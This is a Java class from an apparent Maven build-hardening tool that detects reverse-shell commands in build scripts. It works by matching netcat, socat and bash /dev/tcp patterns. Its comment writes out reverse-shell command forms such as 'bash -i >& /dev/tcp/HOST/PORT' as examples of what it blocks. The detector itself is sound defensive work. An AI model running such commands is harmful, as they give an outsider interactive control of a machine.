package io.github.mavenhardening.core.workflow.step;

import io.github.mavenhardening.core.shell.PosixShells;
import io.github.mavenhardening.core.shell.ShellCommand;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * Shells whose commands come over a connection: {@code nc HOST PORT | sh}, {@code bash -i >& /dev/tcp/HOST/PORT}, {@code nc -e sh HOST
 * PORT}. No build has a use for one.
 */
final class RemoteShell {

    private static final Set<String> CONNECTORS = Set.of("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd");
    /** Options of a connector that start a program on the connection. */
    private static final Pattern STARTS = Pattern.compile("-[a-zA-Z]{0,10}[ec]|--(?:sh-)?exec(?:=.*)?");
    /** Names of a shell, with its options behind it. */
    private static final Pattern SHELL =
            Pattern.compile("(?:--(?:sh-)?exec=)?(?:\\S{0,60}/)?(?:ba|z|da|k)?sh(?:\\s.*)?");

    private static final Pattern INTERACTIVE = Pattern.compile("-[a-z]{0,6}i[a-z]{0,6}");

    private RemoteShell() {}

    /** Words of which a script that starts one holds one, in lower case. */
    static boolean mayBeIn(String lower) {
        return lower.contains("nc")
                || lower.contains("netcat")
                || lower.contains("/dev/tcp/")
                || lower.contains("socat");
    }

    /**
     * Whether a command connects a machine with a shell that waits for commands.
     *
     * @param isPiped whether its pipeline has a shell that it feeds, or one that asks for commands
     */
    static boolean is(ShellCommand command, boolean isPiped) {
        String name = command.name();
        if (CONNECTORS.contains(name)) {
            return isPiped || startsShell(command);
        }
        if (name.equals("socat")) {
            return isOfSocat(command);
        }
        return isInteractive(command)
                && (command.output().startsWith("/dev/tcp/") || command.output().startsWith("/dev/udp/"));
    }

    /** Whether it is a shell that asks for commands whatever it reads from. */
    static boolean isInteractive(ShellCommand command) {
        return PosixShells.isOne(command.name()) && command.hasMatch(INTERACTIVE);
    }

    /** Whether it is a shell that runs what flows into it. */
    static boolean isBare(ShellCommand command) {
        return PosixShells.isOne(command.name()) && command.operand(0).isEmpty() && !command.has("-c");
    }

    private static boolean startsShell(ShellCommand command) {
        return command.hasMatch(STARTS) && command.hasMatch(SHELL);
    }

    private static boolean isOfSocat(ShellCommand command) {
        boolean starts = false;
        boolean connects = false;
        for (String word : command.arguments()) {
            String address = word.toLowerCase(Locale.ROOT);
            starts |= (address.startsWith("exec:") || address.startsWith("system:")) && address.contains("sh");
            connects |= address.startsWith("tcp") || address.startsWith("openssl") || address.startsWith("udp");
        }
        return starts && connects;
    }
}
